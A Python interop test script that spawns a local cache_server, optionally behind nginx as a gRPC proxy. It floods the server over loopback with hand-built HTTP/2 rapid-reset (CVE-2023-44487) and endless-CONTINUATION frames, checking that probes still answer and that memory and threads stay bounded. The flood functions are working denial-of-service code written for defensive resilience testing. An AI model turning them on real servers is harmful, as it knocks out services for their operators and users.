#!/usr/bin/env python3
"""Protocol abuse against a real cache_server, for a bounded time, while a
Python grpcio client probes it: the server must keep answering the probe
within its deadline, and its memory and thread count must stay bounded.

Two floods, hand-written HTTP/2 frames over loopback (no HTTP/2 library):
  rapid reset    HEADERS then RST_STREAM, as fast as possible, on 2 connections
                 (CVE-2023-44487);
  continuation   one HEADERS frame without END_HEADERS followed by endless
                 CONTINUATION frames (a header block that never ends).

  tests/interop/http2_abuse.py PATH_TO_CACHE_SERVER [--seconds=S] [--only=rapid|continuation]
                       [--via-nginx [--nginx=PATH]] [SERVER FLAGS]

--via-nginx floods and probes through Debian's nginx as a gRPC proxy in front
of cache_server (RSS and threads then count both).

Prints 'N passed, N failed' and exits non-zero on any failure.
"""
import os
import shutil
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time

import grpc

GET = "/cache.v1.CacheService/Get"

# HTTP/2 frame types and flags (RFC 9113).
HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 0x1, 0x3, 0x4, 0x9
END_STREAM, END_HEADERS = 0x1, 0x4
CANCEL = 0x8
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(
        ">I", stream & 0x7FFFFFFF) + payload


def hpack_int(value, prefix_bits, first_byte=0):
    """An HPACK integer with an N-bit prefix (RFC 7541 5.1)."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte | value])
    out = [first_byte | limit]
    value -= limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    out.append(value)
    return bytes(out)


def hpack_string(data):
    return hpack_int(len(data), 7) + data


def literal(name, value):
    """Literal header field without indexing, new name (RFC 7541 6.2.2)."""
    return b"\x00" + hpack_string(name) + hpack_string(value)


def request_headers(authority):
    # :method POST (static 3), :scheme http (static 6), :path and :authority
    # as literals with an indexed name (static 4 and 1).
    return (b"\x83\x86" + hpack_int(4, 4) + hpack_string(GET.encode()) +
            hpack_int(1, 4) + hpack_string(authority.encode()) +
            literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers"))


def connect(address):
    host, port = address.rsplit(":", 1)
    sock = socket.create_connection((host, int(port)), timeout=5)
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
    # Drain whatever the server sends, so that its writes never block ours.
    def drain():
        try:
            while sock.recv(65536):
                pass
        except OSError:
            pass
    threading.Thread(target=drain, daemon=True).start()
    return sock


def rapid_reset(address, stop, counter):
    try:
        sock = connect(address)
        headers = request_headers(address)
        stream = 1
        while not stop.is_set():
            batch = bytearray()
            for _ in range(100):
                batch += frame(HEADERS, END_HEADERS, stream, headers)
                batch += frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
                stream += 2
            sock.sendall(batch)
            counter[0] += 100
            if stream > 0x7FFFFFF0:
                sock.close()
                sock = connect(address)
                stream = 1
    except OSError:
        counter[1] += 1  # the server dropped us; count it and stop


def continuation_flood(address, stop, counter):
    try:
        sock = connect(address)
        sock.sendall(frame(HEADERS, 0, 1, request_headers(address)))
        junk = literal(b"x-junk", b"j" * 16000)
        chunk = frame(CONTINUATION, 0, 1, junk)
        while not stop.is_set():
            sock.sendall(chunk * 8)
            counter[0] += len(chunk) * 8
    except OSError:
        counter[1] += 1  # the server closed the connection: a defence


def status_of(pid):
    values = {}
    with open("/proc/%d/status" % pid) as f:
        for line in f:
            key, _, rest = line.partition(":")
            values[key] = rest.strip()
    return int(values["VmRSS"].split()[0]) // 1024, int(values["Threads"])


NGINX_CONF = """
worker_processes 1;
pid %(dir)s/nginx.pid;
error_log %(dir)s/error.log crit;
events { worker_connections 1024; }
http {
  access_log off;
  client_body_temp_path %(dir)s/body;
  proxy_temp_path %(dir)s/proxy;
  fastcgi_temp_path %(dir)s/fastcgi;
  uwsgi_temp_path %(dir)s/uwsgi;
  scgi_temp_path %(dir)s/scgi;
  server {
    listen %(listen)s http2;
    http2_max_concurrent_streams 100;
    large_client_header_buffers 4 16k;
    location / { grpc_pass grpc://%(backend)s; }
  }
}
"""


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def start_nginx(nginx, backend, tmp):
    """Debian's nginx (with its HTTP/2 rapid-reset patch) as a gRPC proxy in
    front of `backend`; returns (process, address)."""
    listen = "127.0.0.1:%d" % free_port()
    conf = os.path.join(tmp, "nginx.conf")
    with open(conf, "w") as f:
        f.write(NGINX_CONF % {"dir": tmp, "listen": listen, "backend": backend})
    proxy = subprocess.Popen([nginx, "-c", conf, "-p", tmp, "-g", "daemon off;"],
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    host, port = listen.rsplit(":", 1)
    for _ in range(100):
        try:
            socket.create_connection((host, int(port)), timeout=1).close()
            return proxy, listen
        except OSError:
            time.sleep(0.05)
    proxy.kill()
    raise RuntimeError("nginx did not start")


def family(pid):
    """`pid` and its children (nginx's workers)."""
    pids = [pid]
    try:
        with open("/proc/%d/task/%d/children" % (pid, pid)) as f:
            pids += [int(p) for p in f.read().split()]
    except OSError:
        pass
    return pids


def main():
    binary = sys.argv[1]
    seconds = 10.0
    extra = []
    only = None
    via_nginx = False
    nginx = "/usr/sbin/nginx"
    # A probe's deadline. Sanitizer builds run several times slower on the
    # same two cores as the flood: CMake passes a longer one there.
    probe_timeout = 1.0
    for arg in sys.argv[2:]:
        if arg == "--via-nginx":
            via_nginx = True
            continue
        if arg.startswith("--nginx="):
            nginx = arg.split("=", 1)[1]
            continue
        if arg.startswith("--seconds="):
            seconds = float(arg.split("=", 1)[1])
        elif arg.startswith("--probe-timeout="):
            probe_timeout = float(arg.split("=", 1)[1])
        elif arg.startswith("--only="):
            only = arg.split("=", 1)[1]
        else:
            extra.append(arg)
    passed, failed = 0, 0

    def check(name, condition, detail=""):
        nonlocal passed, failed
        if condition:
            passed += 1
            print("ok    " + name + (" (" + detail + ")" if detail else ""))
        else:
            failed += 1
            print("FAIL  " + name + (": " + detail if detail else ""))

    # In an AddressSanitizer build, freed memory waits in a quarantine (256 MB
    # by default) that would count as growth here: keep it small.
    env = dict(os.environ)
    env["ASAN_OPTIONS"] = env.get("ASAN_OPTIONS", "") + ":quarantine_size_mb=8"
    server = subprocess.Popen([binary] + extra, stdout=subprocess.PIPE,
                              stderr=subprocess.DEVNULL, text=True, env=env)
    line = server.stdout.readline()
    if not line.startswith("listening on "):
        server.kill()
        print("cache_server did not start: %r" % line)
        print("0 passed, 1 failed")
        return 1
    address = line.split()[-1]
    proxy = None
    tmp = tempfile.mkdtemp()
    watched = [server.pid]
    if via_nginx:
        proxy, address = start_nginx(nginx, address, tmp)
        watched += family(proxy.pid)
    try:
        channel = grpc.insecure_channel(address)
        get = channel.unary_unary(GET)

        def probe():
            try:
                get(b"\n\x01k", timeout=probe_timeout)
            except grpc.RpcError as e:
                return e.code() == grpc.StatusCode.NOT_FOUND
            return True

        check("probe answers before the floods", probe())
        def totals():
            rss, threads = 0, 0
            for pid in watched:
                r, t = status_of(pid)
                rss, threads = rss + r, threads + t
            return rss, threads

        rss0, threads0 = totals()
        for name, flood, connections in (("rapid reset", rapid_reset, 2),
                                         ("continuation flood", continuation_flood, 1)):
            if only is not None and not name.startswith(only):
                continue
            stop = threading.Event()
            counters = [[0, 0] for _ in range(connections)]
            workers = [threading.Thread(target=flood, args=(address, stop, counters[i]),
                                        daemon=True) for i in range(connections)]
            for w in workers:
                w.start()
            probes, answered, peak_rss, peak_threads = 0, 0, 0, 0
            end = time.monotonic() + seconds
            while time.monotonic() < end:
                probes += 1
                answered += probe()
                rss, threads = totals()
                peak_rss, peak_threads = max(peak_rss, rss), max(peak_threads, threads)
                time.sleep(0.2)
            stop.set()
            for w in workers:
                w.join(timeout=5)
            sent = sum(c[0] for c in counters)
            dropped = sum(c[1] for c in counters)
            detail = "%d/%d probes, peak RSS %d MB (+%d), peak threads %d, sent %d, dropped %d" % (
                answered, probes, peak_rss, peak_rss - rss0, peak_threads, sent, dropped)
            check(name + ": every probe answered within %g s" % probe_timeout, answered == probes,
                  detail)
            check(name + ": RSS grows by less than 100 MB", peak_rss - rss0 < 100, detail)
            check(name + ": threads stay under 300", peak_threads < 300, detail)
            time.sleep(1)
        check("probe answers after the floods", probe())
    finally:
        if proxy is not None:
            proxy.terminate()
            proxy.wait(timeout=10)
        shutil.rmtree(tmp, ignore_errors=True)
        server.terminate()
        try:
            server.wait(timeout=15)
        except subprocess.TimeoutExpired:
            server.kill()
    print("%d passed, %d failed" % (passed, failed))
    return 0 if failed == 0 else 1


if __name__ == "__main__":
    sys.exit(main())
